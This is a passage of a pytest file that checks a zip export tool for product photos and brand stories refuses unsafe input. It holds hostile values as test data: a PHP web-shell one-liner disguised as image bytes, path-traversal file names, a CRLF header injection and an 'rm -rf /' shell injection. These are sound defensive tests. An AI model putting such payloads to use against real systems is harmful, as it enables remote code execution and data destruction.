    yield "channel twice", replace(good, channels=(PackChannel.from_channel(shopee),) * 2)
    yield "no channel", replace(good, channels=())
    yield "missing copy", replace(good, channels=(PackChannel("lazada", "Lazada"),))
    yield "story language", replace(good, story={"fr": {"tagline": "x"}})
    yield "story piece with dots", replace(good, story={"id": {"../../x": "x"}})
    yield "story piece with slash", replace(good, story={"id": {"a/b": "x"}})
    yield "pack language", replace(good, language="fr")
    yield "logo not png", replace(good, logo_png=jpeg)
    yield "slot zero", with_images(PackImage(0, jpeg, "jpg", 8, 8))
    yield "slot 100", with_images(PackImage(100, jpeg, "jpg", 8, 8))
    yield "two photos, one slot", with_images(PackImage(1, jpeg), PackImage(1, jpeg))
    yield "extension", with_images(PackImage(1, jpeg, "php", 8, 8))
    yield "extension with path", with_images(PackImage(1, jpeg, "jpg/../../x", 8, 8))
    yield "bytes are not the format", with_images(PackImage(1, b"<?php system($_GET[1]);", "jpg"))
    yield "png named jpg", with_images(PackImage(1, rgba_png((4, 4)), "jpg"))


@pytest.mark.parametrize(("why", "pack"), list(broken_packs()), ids=lambda v: v
                         if isinstance(v, str) else "")
def test_unsafe_input_is_refused(why, pack):
    out = io.BytesIO()
    with pytest.raises(PackError):
        build_pack(pack, out)


@pytest.mark.parametrize("name", ["/etc/passwd", "../x.txt", "a/../b.txt", "a\\b.txt", "a//b",
                                  "a/./b", "", "é.txt", "a/.hidden", "a/b..c", "a/ b"])
def test_check_entry_refuses_unsafe_names(name):
    with pytest.raises(PackError):
        check_entry(name)


def test_png_photos_keep_their_extension():
    product = replace(hostile_product(), images={"instagram": (
        PackImage(1, rgba_png((8, 8)), "png", 8, 8),)})
    data, _ = build(make_pack(products=(product,), logo=False))
    assert "instagram/kain-nakal/01-utama.png" in open_zip(data).namelist()


# --- download name -----------------------------------------------------------------------------

@pytest.mark.parametrize(("brand", "slug", "ascii_name", "utf8_name"), [
    ('Batik "Sari" / Solo – Tenun', "batik-sari-solo-tenun",
     "studio-cerita-batik-sari-solo-tenun-2026-11-28.zip",
     "Studio Cerita - Batik Sari Solo – Tenun - 2026-11-28.zip"),
    ("батик", "", "studio-cerita-merek-2026-11-28.zip", "Studio Cerita - батик - 2026-11-28.zip"),
    ("Tenun\r\nSet-Cookie: x=1", "tenun", "studio-cerita-tenun-2026-11-28.zip",
     "Studio Cerita - Tenun Set-Cookie x=1 - 2026-11-28.zip"),
    ("🌺🌺 Kriya 🔥", "kriya", "studio-cerita-kriya-2026-11-28.zip",
     "Studio Cerita - Kriya - 2026-11-28.zip"),
    ("🌺🔥", "", "studio-cerita-merek-2026-11-28.zip", "studio-cerita-merek-2026-11-28.zip"),
    ("Café Ñusa", "../../etc", "studio-cerita-etc-2026-11-28.zip",
     "Studio Cerita - Café Ñusa - 2026-11-28.zip"),
    ("❤️ Kriya\u200d", "kriya", "studio-cerita-kriya-2026-11-28.zip",
     "Studio Cerita - Kriya - 2026-11-28.zip"),
    ("..\\..\\CON", "", "studio-cerita-con-2026-11-28.zip", "Studio Cerita - CON - 2026-11-28.zip"),
])
def test_download_name_is_safe_for_any_brand(brand, slug, ascii_name, utf8_name):
    assert download_name(brand, slug, DAY) == (ascii_name, utf8_name)


@pytest.mark.parametrize("brand", ['Batik "Sari" / Solo – Tenun', "батик", "a\r\nb", "🌺",
                                   "x" * 500, "'; rm -rf /", "%0d%0a", ""])
def test_content_disposition_is_one_safe_header_line(brand):
    header = content_disposition(brand, "", DAY)
    header.encode("latin-1")
    assert "\r" not in header and "\n" not in header
    assert header.startswith('attachment; filename="studio-cerita-')
    ascii_name, utf8_name = download_name(brand, "", DAY)
    assert len(utf8_name) <= 120
    assert not set('"/\\\r\n\t') & set(utf8_name)
    assert all(unicodedata.category(c) not in ("So", "Cc", "Cf") for c in utf8_name)
    assert ascii_name.isascii()
